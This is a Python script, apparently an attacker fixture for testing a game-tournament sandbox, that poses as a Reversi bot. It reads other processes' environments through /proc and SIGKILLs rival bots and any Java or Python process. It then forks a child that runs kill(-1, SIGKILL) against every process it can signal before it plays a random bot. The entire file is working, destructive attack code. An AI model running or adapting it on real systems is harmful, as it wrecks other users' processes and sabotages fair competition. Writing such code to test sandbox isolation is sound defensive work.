#!/usr/bin/env python3
"""A cheating student's Reversi program: kill every other player, then play.

Usage: killer.py HOST PORT NAME  (a tournament gives `{host} {port} {name}`)

1. Prints its uid and how many processes it can see in /proc.
2. SIGKILLs every process whose environment has a CARDRING_RUN other than its
   own, or whose command line mentions `ring bot`, `ring peer`, `java` or
   `python` (except itself and its parent).
3. Forks a child that, 1 s later, does kill(-1, SIGKILL): every process it may
   signal (its own parent, then the bot, included).
4. Replaces itself with the built-in random bot.

DO NOT RUN THIS OUTSIDE A SANDBOX: as root it kills everything on the machine.
"""
import argparse
import os
import signal
import sys
import time

KEYWORDS = ("ring bot", "ring peer", "java", "python")


# --- helpers (each attacker has its own copy) --------------------------------

def report(what, result):
    print(f"ATTACK {what}: {result}", flush=True)


def failed(exc):
    return f"failed: {type(exc).__name__}: {exc}"


def parse_args():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("host", nargs="?", default=os.environ.get("CARDRING_HOST", "127.0.0.1"))
    parser.add_argument("port", nargs="?", default=os.environ.get("CARDRING_PORT", "5410"))
    parser.add_argument("name", nargs="?", default=os.environ.get("CARDRING_NAME", "killer"))
    args, _unknown = parser.parse_known_args()
    return args


def bot_command(host, port, name, seed=1):
    return [
        sys.executable, "-m", "ring", "bot", "reversi",
        "--server", f"{host}:{port}", "--name", name,
        "--level", "random", "--seed", str(seed),
    ]


def play(host, port, name):
    """Replace this process with the built-in random bot."""
    command = bot_command(host, port, name)
    print("PLAY: " + " ".join(command), flush=True)
    sys.stderr.flush()
    try:
        os.execv(sys.executable, command)
    except OSError as exc:
        print(f"PLAY: {failed(exc)}", flush=True)
        os._exit(1)


# --- the attack --------------------------------------------------------------

def read_proc(pid, what):
    with open(f"/proc/{pid}/{what}", "rb") as f:
        return f.read()


def environment(raw):
    env = {}
    for item in raw.split(b"\0"):
        key, sep, value = item.partition(b"=")
        if sep:
            env[key.decode(errors="replace")] = value.decode(errors="replace")
    return env


def find_targets():
    me, parent = os.getpid(), os.getppid()
    own_run = os.environ.get("CARDRING_RUN")
    pids = [int(entry) for entry in os.listdir("/proc") if entry.isdigit()]
    report("proc", f"saw {len(pids)} processes in /proc")
    targets = []
    env_read = env_denied = 0
    for pid in pids:
        if pid in (me, parent):
            continue
        reason = None
        try:
            run = environment(read_proc(pid, "environ")).get("CARDRING_RUN")
            env_read += 1
            if run is not None and run != own_run:
                reason = f"CARDRING_RUN={run}"
        except OSError:
            env_denied += 1
        cmdline = ""
        try:
            cmdline = read_proc(pid, "cmdline").replace(b"\0", b" ").decode(errors="replace").strip()
        except OSError:
            pass
        if reason is None:
            lowered = cmdline.lower()
            for keyword in KEYWORDS:
                if keyword in lowered:
                    reason = f"command line mentions {keyword!r}"
                    break
        if reason is not None:
            targets.append((pid, reason, cmdline))
    report("environ", f"read the environment of {env_read} processes, {env_denied} refused")
    return targets


def kill_targets(targets):
    killed = 0
    for pid, reason, cmdline in targets:
        try:
            os.kill(pid, signal.SIGKILL)
            killed += 1
            report(f"kill {pid}", f"killed ({reason}; {cmdline[:100]!r})")
        except OSError as exc:
            report(f"kill {pid}", f"{failed(exc)} ({reason}; {cmdline[:100]!r})")
    report("kill", f"killed {killed} of {len(targets)} processes")


def kill_everything_later():
    """Fork a child that does kill(-1, SIGKILL) a second from now."""
    try:
        child = os.fork()
    except OSError as exc:
        report("kill(-1)", f"fork {failed(exc)}")
        return
    if child == 0:
        try:
            time.sleep(1)
            os.kill(-1, signal.SIGKILL)
            report("kill(-1)", "sent SIGKILL to every process I may signal")
        except BaseException as exc:
            try:
                report("kill(-1)", failed(exc))
            except BaseException:
                pass
        finally:
            os._exit(0)
    report("kill(-1)", f"forked child {child}: kill(-1, SIGKILL) in 1 s")


def main():
    args = parse_args()
    try:
        report("uid", f"uid={os.getuid()} euid={os.geteuid()} gid={os.getgid()} pid={os.getpid()} ppid={os.getppid()}")
    except Exception as exc:
        report("uid", failed(exc))
    try:
        kill_targets(find_targets())
    except Exception as exc:
        report("kill", failed(exc))
    try:
        kill_everything_later()
    except Exception as exc:
        report("kill(-1)", failed(exc))
    play(args.host, args.port, args.name)


if __name__ == "__main__":
    main()
